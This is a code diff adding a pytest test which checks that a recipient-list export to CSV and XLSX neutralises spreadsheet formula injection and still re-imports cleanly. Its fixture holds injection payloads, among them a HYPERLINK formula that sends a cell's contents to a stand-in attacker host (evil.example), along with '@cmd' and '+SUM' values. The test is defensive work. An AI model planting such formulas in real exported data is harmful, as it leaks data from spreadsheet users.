@@ -208,3 +208,52 @@ def test_export_writes_the_import_columns_and_reimports(admin_client, fmt):
     result = RecipientListEntryResource(recipient_list=copy).import_data(data, dry_run=False)
     assert not result.has_validation_errors(), _errors_by_row(result)
     assert copy.entries.get(email="a@example.org").extra == {"course": "Bio"}
+
+
+FORMULAS = {
+    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "last_name": "+SUM(1,2)",
+    "language": "",
+    "course": "@cmd",
+}
+
+
+@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
+def test_export_neutralises_formulas_and_the_file_reimports_unchanged(admin_client, fmt):
+    rlist = f.RecipientListFactory()
+    f.RecipientListEntryFactory(
+        recipient_list=rlist,
+        email="eve@example.org",
+        first_name=FORMULAS["first_name"],
+        last_name=FORMULAS["last_name"],
+        extra={"course": FORMULAS["course"], "note": "-2+3", "n": 7},
+    )
+    url = reverse(EXPORT_URL) + f"?recipient_list__id__exact={rlist.pk}"
+    fields = {f"recipientlistentryresource_{c}": "on" for c in ("email", "first_name", "last_name")}
+    response = admin_client.post(url, {"format": fmt, "resource": "0", **fields})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if fmt == CSV_FORMAT:
+        [row] = list(csv.DictReader(io.StringIO(content.decode())))
+        assert row["first_name"] == "'" + FORMULAS["first_name"]
+        assert row["last_name"] == "'+SUM(1,2)"
+        assert row["context.course"] == "'@cmd"
+        assert row["context.note"] == "'-2+3"
+        data = Dataset().load(content.decode(), format="csv")
+    else:
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        cells = list(book.active.iter_rows())
+        header = [c.value for c in cells[0]]
+        values = dict(zip(header, cells[1], strict=True))
+        assert values["first_name"].value == "'" + FORMULAS["first_name"]
+        assert values["first_name"].data_type == "s"  # text, not a formula
+        assert values["context.course"].value == "'@cmd"
+        assert values["context.n"].value == 7  # numbers stay numbers
+        assert all(c.data_type != "f" for row in cells for c in row)
+        data = Dataset().load(content, format="xlsx")
+    copy = f.RecipientListFactory()
+    result = RecipientListEntryResource(recipient_list=copy).import_data(data, dry_run=False)
+    assert not result.has_validation_errors(), _errors_by_row(result)
+    entry = copy.entries.get()
+    assert (entry.first_name, entry.last_name) == (FORMULAS["first_name"], "+SUM(1,2)")
+    assert entry.extra["course"] == "@cmd" and entry.extra["note"] == "-2+3"
